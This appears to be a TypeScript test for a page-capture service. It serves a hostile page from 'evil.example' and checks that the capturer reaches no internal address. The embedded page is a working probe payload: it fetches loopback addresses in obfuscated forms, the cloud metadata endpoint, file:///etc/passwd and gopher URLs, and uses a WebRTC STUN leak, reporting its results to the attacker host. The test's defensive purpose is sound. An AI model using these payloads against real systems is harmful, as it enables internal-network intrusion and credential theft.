import dgram from "node:dgram";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, expect, it } from "vitest";
import { capturePage } from "#adapters/browser/capture-page.ts";
import { isPublicAddress } from "#adapters/browser/public-address.ts";
import { type FakeInternet, file, PUBLIC, redirect, startFakeInternet } from "./kit/fake-internet.ts";
import { bytesWrittenDuring } from "./kit/measure-downloads.ts";

let internet: FakeInternet;
afterEach(() => internet.close());

const request = { url: "http://evil.example/", mobile: false, fullPage: false, delay: 1500, hide_selector: "", scroll_to: "" };

/** Tries every way in which a page can send requests, and reports the responses to its own server. */
const evil = (inside: number, datagrams: number): string => `<!doctype html><title>evil</title>
<link rel="dns-prefetch" href="//prefetch.inner.example"><link rel="preconnect" href="http://127.0.0.1:${inside}">
<img src="http://127.0.0.1:${inside}/img"><img src="/redirect"><iframe src="http://inner.example/frame"></iframe>
<iframe src="file:///etc/passwd"></iframe><object data="http://[::1]:${inside}/object"></object>
<script>
const tell = (what, text) => fetch("/told?" + what + "=" + encodeURIComponent(text), { method: "POST" });
for (const url of ["http://127.0.0.1:${inside}/", "http://2130706433:${inside}/", "http://0x7f.1:${inside}/", "http://localhost:${inside}/",
  "http://[::ffff:127.0.0.1]:${inside}/", "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "http://flip.example/",
  "https://inner.example/", "/redirect", "file:///etc/passwd", "gopher://127.0.0.1:${inside}/"])
  fetch(url, { mode: "no-cors" }).then(() => tell("answered", url), () => tell("blocked", url));
for (const url of ["ws://127.0.0.1:${inside}/", "wss://inner.example/"]) {
  const socket = new WebSocket(url);
  socket.onopen = () => tell("opened", url);
}
const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${datagrams}" }] });
peer.createDataChannel("x");
peer.onicecandidate = ({ candidate }) => candidate && tell("candidate", candidate.candidate);
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
navigator.serviceWorker?.register("/worker.js").then(() => tell("worker", "registered"), () => 0);
navigator.geolocation?.getCurrentPosition(() => tell("position", "known"));
open("/popup"); alert(1); confirm(2); prompt(3); print?.();
const link = Object.assign(document.createElement("a"), { href: "/file.zip", download: "file.zip" });
document.body.append(link); link.click();
</script>`;

it("a page that tries everything reaches no internal address, and is still captured", async () => {
  const inside: string[] = [];
  const service = http.createServer((asked, response) => {
    inside.push(String(asked.url));
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("secret");
  });
  const ear = dgram.createSocket("udp4", (message) => inside.push(`datagram of ${message.length} bytes`));
  await Promise.all([
    new Promise<void>((resolve) => service.listen(0, "127.0.0.1", resolve)),
    new Promise<void>((resolve) => ear.bind(0, "127.0.0.1", resolve)),
  ]);
  const ports = [(service.address() as AddressInfo).port, ear.address().port] as const;
  internet = await startFakeInternet(
    {
      "evil.example/": evil(...ports),
      "evil.example/redirect": redirect(`http://127.0.0.1:${ports[0]}/redirected`),
      "evil.example/file.zip": file("application/zip", "PK"),
    },
    { "inner.example": ["192.168.0.10"], "prefetch.inner.example": ["192.168.0.11"], "flip.example": [["10.0.0.1"], [PUBLIC]] },
  );
  try {
    const { files, downloads } = await bytesWrittenDuring(async () => {
      const { slices } = await capturePage(request, { network: internet.network, timeouts: { quiet: 500, consent: 50 } });
      expect(slices).toHaveLength(1);
    });
    expect(files).toBeGreaterThan(0);
    expect(downloads).toEqual([]);
  } finally {
    service.close();
    ear.close();
  }
  expect(inside).toEqual([]);
  const led = internet.connections.map((connection) => connection.replace(/:\d+$/, ""));
  expect(led.filter((address) => !isPublicAddress(address))).toEqual([]);
  const messages = internet.requests.map((line) => decodeURIComponent(line)).filter((line) => line.includes("/told?"));
  expect(messages.some((line) => line.includes("blocked=file:"))).toBe(true);
  expect(messages.filter((line) => /\?(opened|candidate|worker|position)=/.test(line))).toEqual([]);
  expect(internet.requests.filter((line) => line.includes("/popup"))).toEqual([]);
});
